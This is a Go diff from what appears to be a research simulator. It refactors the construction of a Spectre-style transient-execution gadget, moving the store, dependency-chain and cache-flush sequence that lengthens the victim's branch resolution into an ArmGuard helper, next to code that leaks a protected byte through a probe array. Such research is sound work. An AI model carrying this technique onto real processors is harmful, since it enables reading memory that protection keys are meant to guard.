@@ -105,6 +105,28 @@ func reloadProbe(f *asm.FuncBuilder) {
 	f.Halt()
 }
 
+// ArmGuard is the attack call's fence substitute: it stores val to the
+// guard word at r6 and CLFLUSHes it, so the victim's guard load misses and
+// its branch resolves slowly enough for the transient window to run.
+//
+// Ordering matters in the out-of-order core: the store only reaches the
+// cache at retirement, and both the CLFLUSH and the victim's guard load
+// would otherwise execute before it. A long dependency chain over val in
+// r21 (numerically zero for every val used: 0, and 4 squared ten times
+// overflows to 0) feeds the flush address and the guard pointer, so flush
+// and load issue strictly after the store has committed. It clobbers r11
+// and r21.
+func ArmGuard(f *asm.FuncBuilder, val int64) {
+	f.Movi(11, val)
+	f.St(11, 6, 0)
+	f.Addi(21, 11, 0)
+	for i := 0; i < 10; i++ {
+		f.Mul(21, 21, 21)
+	}
+	f.Add(6, 6, 21) // r6 unchanged, now dependent on the chain
+	f.Clflush(6, 0)
+}
+
 // leakSecret emits the body that a mispredicted path runs (paper Listing 1,
 // Fig. 12(c)): open array1, read array1[r12], close it again, and touch the
 // probe entry the byte selects. The PKRU values are load-immediates next to
@@ -153,21 +175,7 @@ func BuildGadget(cfg Config) (*asm.Program, error) {
 	// Phase 3: the attack call. Condition false (the branch will resolve
 	// taken), mailbox flushed so resolution is slow enough for the
 	// transient window to run the protected loads.
-	//
-	// Ordering matters in the out-of-order core: the condition store only
-	// reaches the cache at retirement, and both the CLFLUSH and the
-	// victim's condition load would otherwise execute before it. A long
-	// dependency chain (numerically zero, since r11 is 0) feeds the flush
-	// address and the condition pointer, so flush and load issue strictly
-	// after the store has committed — the attacker's equivalent of fences.
-	f.Movi(11, 0)
-	f.St(11, 6, 0)
-	f.Addi(21, 11, 0)
-	for i := 0; i < 10; i++ {
-		f.Mul(21, 21, 21)
-	}
-	f.Add(6, 6, 21) // r6 unchanged, now dependent on the chain
-	f.Clflush(6, 0)
+	ArmGuard(f, 0)
 	f.Movi(12, secretIndex)
 	f.Call("victim")
 
